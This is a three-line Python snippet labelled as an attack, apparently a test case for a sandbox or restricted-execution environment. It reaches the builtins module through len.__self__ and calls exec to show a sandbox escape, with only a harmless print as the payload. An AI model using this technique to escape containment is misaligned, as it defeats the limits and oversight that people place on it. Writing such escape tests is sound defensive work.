# attack: a builtin function's __self__ is the builtins module
mod = len.__self__
mod.exec("print('escaped')")
